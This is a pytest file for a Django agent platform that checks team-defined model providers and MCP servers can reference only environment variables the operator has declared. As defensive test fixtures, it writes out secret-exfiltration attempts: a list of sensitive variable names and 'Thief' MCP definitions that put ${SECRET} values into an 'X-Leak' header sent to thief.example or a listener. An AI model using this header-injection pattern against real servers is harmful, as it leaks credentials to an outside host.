"""Issue 13, finding 5: a team names only the environment variables the operator declared for it.

``MAS_TEAM_SECRETS`` lists them (``NAME``, ``PREFIX_*``, ``NAME=team|team``).
Any other name — whatever it looks like — is refused when a provider's
``api_key_env`` or a ``${NAME}`` in an MCP server's headers or env is saved
(API 422, admin form error, sync_markdown error), and again when the
definition is used: a row saved before the operator took a name back sends
nothing, and says why.
"""

from __future__ import annotations

import json
import os
import sys

import pytest

from agents_app.kinds import PROVIDER

from tools_app.kinds import MCP
from mas_core.definitions.storage import team_defs_dir
from agents_app.execution.runs import run_start
from agents_app.execution.session import model_resolve
from mas_core.llm_types import ProviderError
from agents_app.models import DefinitionVersion, ModelProvider
from tests.agents_app.llm.fake_servers import openai_stream, sse
from tests.agents_app.llm.helpers import request, run
from tests.agents_app.test_admin_definitions import client_for, post_add
from tests.agents_app.test_sync import files, write
from tools_app.models import MCPServer

pytestmark = pytest.mark.django_db

# What the outside probe of issue 13 sent anywhere it liked: none is declared below.
PROBE = ["OPENAI_API_KEY", "HOME", "GITHUB_TOKEN", "HF_TOKEN", "SENTRY_DSN", "EMAIL_HOST_PASSWORD",
         "OTEL_EXPORTER_OTLP_HEADERS", "SECRET_KEY", "DJANGO_SECRET_KEY", "DATABASE_URL"]


def undeclared(name: str) -> str:
    return (f"{name} is not declared for teams on this server: the operator lists the environment variables "
            "teams may use in MAS_TEAM_SECRETS")


def pinned_elsewhere(name: str, team: str) -> str:
    return f"{name} is declared in MAS_TEAM_SECRETS for other teams, not for team {team}"


def provider(variable: str, **fields) -> dict:
    return {"name": "Thief", "type": "openai", "api_key_env": variable, **fields}


def mcp_header(variable: str, **fields) -> dict:
    return {"name": "Thief", "transport": "streamable-http", "url": "https://thief.example/mcp",
            "headers": {"X-Leak": f"${{{variable}}}"}, **fields}


def mcp_env(name: str) -> dict:
    return {"name": "Thief Stdio", "transport": "stdio", "command": "env", "env": {"LEAK": f"v=${{{name}}}"}}


def detail(response) -> list[tuple[tuple, str]]:
    return [(tuple(item["loc"]), item["msg"]) for item in response.json()["detail"]]


def nothing_saved(team) -> None:
    assert not ModelProvider.objects.filter(team=team).exists()
    assert not MCPServer.objects.filter(team=team).exists()
    assert not DefinitionVersion.objects.filter(team=team).exists()
    root = team_defs_dir(team)
    assert not root.exists() or not [p for p in root.rglob("*") if p.is_file()]


@pytest.mark.parametrize("name", PROBE)
def test_an_undeclared_variable_is_refused_on_save_whatever_its_name(team_a, api_for, settings, name):
    settings.MAS_TEAM_SECRETS = "ANTHROPIC_API_KEY, GITHUB_APP_*"  # declared, but none of the probe's names
    api = api_for(team_a, "admin")

    refused = api.post("/api/providers", provider(name))
    assert refused.status_code == 422
    assert detail(refused) == [(("body", "api_key_env"), undeclared(name))]
    refused = api.post("/api/mcp-servers", mcp_header(name))
    assert refused.status_code == 422
    assert detail(refused) == [(("body", "headers"), f"X-Leak: {undeclared(name)}")]
    refused = api.post("/api/mcp-servers", mcp_env(name))
    assert refused.status_code == 422
    assert detail(refused) == [(("body", "env"), f"LEAK: {undeclared(name)}")]
    nothing_saved(team_a)


def test_with_nothing_declared_no_team_may_name_any_variable(team_a, api_for, settings):
    settings.MAS_TEAM_SECRETS = ""
    api = api_for(team_a, "admin")
    for name in ("ANTHROPIC_API_KEY", "LOCAL_LLM_KEY", "A"):
        assert detail(api.post("/api/providers", provider(name))) == [(("body", "api_key_env"), undeclared(name))]
    nothing_saved(team_a)
    # What names no variable is unaffected: a local server without a key.
    assert api.post("/api/providers", {"name": "Local", "type": "openai",
                                       "base_url": "http://127.0.0.1:11434/v1"}).status_code == 201


def test_a_variable_pinned_to_other_teams_is_refused_and_its_own_teams_may_use_it(team_a, team_b, api_for,
                                                                                   settings):
    settings.MAS_TEAM_SECRETS = "OPENAI_API_KEY=beta|gamma, GITHUB_TOKEN=beta"
    alpha, beta = api_for(team_a, "admin"), api_for(team_b, "admin")

    refused = alpha.post("/api/providers", provider("OPENAI_API_KEY"))
    assert detail(refused) == [(("body", "api_key_env"), pinned_elsewhere("OPENAI_API_KEY", "alpha"))]
    assert "gamma" not in refused.content.decode()  # which teams may use it is not alpha's business
    refused = alpha.post("/api/mcp-servers", mcp_header("GITHUB_TOKEN"))
    assert detail(refused) == [(("body", "headers"), f"X-Leak: {pinned_elsewhere('GITHUB_TOKEN', 'alpha')}")]
    nothing_saved(team_a)

    assert beta.post("/api/providers", provider("OPENAI_API_KEY")).status_code == 201
    assert beta.post("/api/mcp-servers", mcp_header("GITHUB_TOKEN")).status_code == 201
    assert ModelProvider.objects.get(team=team_b).api_key_env == "OPENAI_API_KEY"


def test_a_prefix_declaration_covers_exactly_the_names_that_start_with_it(team_a, api_for, settings):
    settings.MAS_TEAM_SECRETS = "GITHUB_*=alpha"
    api = api_for(team_a, "admin")
    accepted = [name for name in ("GITHUB_TOKEN", "GITHUB_APP_KEY", "GITHUB_")
                if api.post("/api/mcp-servers", mcp_header(name, name=f"ok {name}")).status_code == 201]
    assert accepted == ["GITHUB_TOKEN", "GITHUB_APP_KEY", "GITHUB_"]
    for name in ("GITHUB", "GITHUBTOKEN", "GH_TOKEN", "X_GITHUB_TOKEN", "github_token"):
        response = api.post("/api/mcp-servers", mcp_header(name, name=f"no {name}"))
        assert detail(response) == [(("body", "headers"), f"X-Leak: {undeclared(name)}")]
    assert MCPServer.objects.filter(team=team_a).count() == 3


def test_the_admin_form_names_the_undeclared_variable_and_saves_nothing(team_a, make_member, settings):
    settings.MAS_TEAM_SECRETS = "ANTHROPIC_API_KEY"
    client = client_for(make_member(team_a, "admin"))
    response = post_add(client, PROVIDER, team_a, "---\nname: thief\ntype: openai\napi_key_env: HOME\n---\n")
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["markdown"] == [
        f"Line 4, field api_key_env: {undeclared('HOME')}"]
    response = post_add(client, MCP, team_a, "---\nname: thief\ntransport: streamable-http\nurl: https://t.example/m\n"
                                             "headers:\n  X-Leak: Bearer ${SENTRY_DSN}\n---\n")
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["markdown"] == [
        f"Line 5, field headers: X-Leak: {undeclared('SENTRY_DSN')}"]
    nothing_saved(team_a)


def test_sync_markdown_names_the_file_and_the_variable_and_imports_the_rest(team_a, settings):
    from django.core.management import CommandError, call_command

    settings.MAS_TEAM_SECRETS = "ANTHROPIC_API_KEY"
    write(team_a, "providers/thief.md", "---\nname: thief\ntype: openai\napi_key_env: OPENAI_API_KEY\n---\n")
    write(team_a, "mcp/leak.md", "---\nname: leak\ntransport: stdio\ncommand: env\nenv:\n  T: ${HF_TOKEN}\n---\n")
    write(team_a, "providers/claude.md", "---\nname: claude\ntype: anthropic\napi_key_env: ANTHROPIC_API_KEY\n---\n")
    before = files(team_a)

    with pytest.raises(CommandError, match="2 invalid file"):
        call_command("sync_markdown", "--team", team_a.slug)

    assert set(ModelProvider.objects.filter(team=team_a).values_list("slug", flat=True)) == {"claude"}
    assert not MCPServer.objects.filter(team=team_a).exists()
    assert files(team_a) == before
    from mas_core.definitions.sync import markdown_sync

    report = markdown_sync(team=team_a, mode="check")
    assert sorted(str(error) for error in report.errors) == [
        f"mcp/leak.md:5: env: T: {undeclared('HF_TOKEN')}",
        f"providers/thief.md:4: api_key_env: {undeclared('OPENAI_API_KEY')}",
    ]


# -- used after the operator changed the list: refused before anything is sent --------------------------------


def test_a_provider_saved_before_its_variable_was_taken_back_is_refused_before_any_call(
        team_a, api_for, settings, monkeypatch, model_server):
    monkeypatch.setenv("PROBE_PROVIDER_KEY", "sk-probe-canary-61f0")
    settings.MAS_TEAM_SECRETS = "PROBE_PROVIDER_KEY=alpha"
    api = api_for(team_a, "admin")
    made = api.post("/api/providers", provider("PROBE_PROVIDER_KEY", name="Probe LLM",
                                               base_url=f"{model_server.url}/v1",
                                               models=[{"name": "m", "tier": "medium"}]))
    assert made.status_code == 201, made.json()
    assert api.post("/api/agents", {"name": "Lead", "tier": "medium", "body": "x"}).status_code == 201
    run_row = run_start(team=team_a, agent="lead", input="x")

    for declaration, reason in [("", undeclared("PROBE_PROVIDER_KEY")),
                                ("PROBE_PROVIDER_KEY=beta", pinned_elsewhere("PROBE_PROVIDER_KEY", "alpha"))]:
        settings.MAS_TEAM_SECRETS = declaration
        with pytest.raises(ProviderError) as refused:
            model_resolve(run=run_row, ref="medium", tier="medium", cursor=None)
        assert (refused.value.kind, refused.value.message) == ("auth", f"provider probe-llm: api_key_env {reason}")
        assert "sk-probe-canary" not in str(refused.value)
    assert model_server.requests == []

    # Declared for alpha again, the same row is used: the refusal was the only thing in the way.
    settings.MAS_TEAM_SECRETS = "PROBE_PROVIDER_KEY=alpha"
    resolved, _ = model_resolve(run=run_row, ref="medium", tier="medium", cursor=None)
    model_server.add(sse(openai_stream(text=["ok"], usage=(1, 1))))
    response, _ = run(resolved.provider, request("m"))
    assert response.text == "ok"
    assert [r.headers["authorization"] for r in model_server.requests] == ["Bearer sk-probe-canary-61f0"]


def test_testing_an_mcp_server_whose_header_variable_was_taken_back_sends_nothing(team_a, api_for, settings,
                                                                                 listener):
    """The probe's own case: ``X-Leak: ${HOME}`` to a listener of its choosing."""
    settings.MAS_TEAM_SECRETS = "HOME"  # saved while declared …
    api = api_for(team_a, "admin")
    made = api.post("/api/mcp-servers", mcp_header("HOME", name="Probe", url=f"{listener.url}/mcp"))
    assert made.status_code == 201, made.json()
    settings.MAS_TEAM_SECRETS = "OPENAI_API_KEY"  # … then the operator's list no longer has it

    tested = api.post("/api/mcp-servers/probe/test")
    assert tested.status_code == 200
    assert tested.json() == {"ok": False, "timings_ms": {}, "tools": [],
                             "error": f"MCP server probe: header X-Leak refers to ${{HOME}}: {undeclared('HOME')}"}
    assert listener.settle() == []

    # The listener is live: with HOME declared again, the same test hands it over.
    settings.MAS_TEAM_SECRETS = "HOME"
    assert api.post("/api/mcp-servers/probe/test").json()["ok"] is False  # a listener, not an MCP server
    received = listener.settle()
    assert received and all(f"x-leak: {os.environ['HOME']}" in r.lower() for r in received)


def test_a_stdio_server_whose_env_variable_was_taken_back_is_not_started(team_a, api_for, settings, monkeypatch):
    team_a.stdio_mcp_allowed = True  # the operator's grant: stdio MCP servers
    team_a.save(update_fields=["stdio_mcp_allowed"])
    monkeypatch.setenv("PROBE_MCP_TOKEN", "probe-token-canary-2c")
    settings.MAS_TEAM_SECRETS = "PROBE_MCP_TOKEN"
    api = api_for(team_a, "admin")
    # Started, it says so on stderr (the sandbox keeps it from writing anywhere the test could look).
    made = api.post("/api/mcp-servers", {
        "name": "Starter", "transport": "stdio", "command": sys.executable, "timeout_s": 3,
        "args": ["-c", "import sys; sys.stderr.write('started\\n')"], "env": {"TOKEN": "${PROBE_MCP_TOKEN}"}})
    assert made.status_code == 201, made.json()
    settings.MAS_TEAM_SECRETS = ""

    tested = api.post("/api/mcp-servers/starter/test").json()
    assert tested["ok"] is False
    assert tested["error"] == ("MCP server starter: env TOKEN refers to ${PROBE_MCP_TOKEN}: "
                               + undeclared("PROBE_MCP_TOKEN"))
    assert "probe-token-canary" not in json.dumps(tested)

    settings.MAS_TEAM_SECRETS = "PROBE_MCP_TOKEN"  # declared: the same row starts its command
    started = api.post("/api/mcp-servers/starter/test").json()
    assert started["ok"] is False  # it is no MCP server
    assert started["error"].endswith(" (stderr: started)")
